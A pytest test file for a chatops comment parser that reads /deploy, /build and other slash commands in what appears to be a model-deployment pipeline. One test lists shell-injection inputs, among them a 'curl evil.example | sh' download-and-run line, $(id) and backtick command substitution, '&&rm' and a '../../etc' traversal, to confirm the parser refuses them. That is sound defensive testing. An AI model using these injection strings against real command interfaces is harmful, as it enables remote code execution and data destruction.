"""The comment grammar: what a command line means, and what is refused before anything runs."""

from __future__ import annotations

import pytest

from pipeline.chatops.parse import MAX_COMMANDS, parse_comment, parse_line


def one(line: str):  # type: ignore[no-untyped-def]
    return parse_line(0, line)


def test_deploy_with_every_option() -> None:
    command = one("/deploy churn-model 3 --gpu --istio --env prod")
    assert command.error is None
    assert (command.name, command.model, command.version) == ("deploy", "churn-model", "3")
    assert (command.gpu, command.istio, command.env) == (True, True, "prod")


def test_deploy_defaults_to_dev_and_accepts_env_with_equals_and_v_prefix() -> None:
    assert one("/deploy churn 3").env == "dev"
    command = one("/deploy churn v12 --env=prod")
    assert (command.version, command.env, command.error) == ("12", "prod", None)


@pytest.mark.parametrize(
    ("line", "why"),
    [
        ("/deploy churn", "expected 2 arguments"),
        ("/deploy churn 0", "invalid model version"),
        ("/deploy churn 3 --env staging", "--env must be one of dev, prod"),
        ("/deploy churn 3 --env", "--env needs a value"),
        ("/deploy churn 3 --gpu --gpu", "--gpu given twice"),
        ("/deploy churn 3 --force", "unknown option --force"),
        ("/rollback churn --gpu", "unknown option --gpu"),
        ("/dag a b", "at most 1 project"),
        ("/build Alpha", "invalid project name"),
        ("/help me", "takes no arguments"),
    ],
)
def test_wrong_arguments_are_refused_with_the_usage(line: str, why: str) -> None:
    command = one(line)
    assert command.error is not None
    assert why in command.error
    assert "usage: /" in command.error


@pytest.mark.parametrize(
    "line",
    [
        "/deploy churn 3; curl evil.example | sh",
        "/deploy churn $(id)",
        "/deploy churn `id`",
        "/build alpha&&rm",
        "/build 'alpha'",
        "/rollback churn>out",
        "/deploy;id",
        "/dag ../../etc",
        "/deploy churn 3 --env=prod;id",
    ],
)
def test_shell_metacharacters_are_refused(line: str) -> None:
    command = one(line)
    assert command.error is not None
    assert command.model is None and command.projects == ()
    assert "`" not in command.text and "\n" not in command.error


def test_several_commands_per_comment_and_prose_around_them() -> None:
    body = (
        "Looks good, shipping it.\r\n"
        "/build alpha beta\n"
        "  /deploy alpha 4 --env dev\n"
        "> /deploy quoted 1\n"
        "```\n/deploy in-code 1\n```\n"
        "/help\n"
    )
    commands = parse_comment(body)
    assert [(c.index, c.name) for c in commands] == [(0, "build"), (1, "deploy"), (2, "help")]
    assert commands[0].projects == ("alpha", "beta")


def test_unknown_command_is_marked_for_the_help_text() -> None:
    (command,) = parse_comment("/shipit now")
    assert command.unknown and command.error == "unknown command /shipit"


def test_too_many_commands_are_refused_not_dropped() -> None:
    commands = parse_comment("\n".join(["/help"] * (MAX_COMMANDS + 3)))
    assert len(commands) == MAX_COMMANDS + 1
    assert commands[-1].error == f"at most {MAX_COMMANDS} commands per comment"


def test_a_comment_without_commands() -> None:
    assert parse_comment("LGTM, see /docs/readme for details\n/usr/local/bin is full") == []


def test_a_refused_word_is_shown_inert() -> None:
    command = one("/deploy @acme/everyone <img src=x> `id`")
    assert command.error is not None
    assert command.error.startswith("`@acme/everyone` is not allowed")
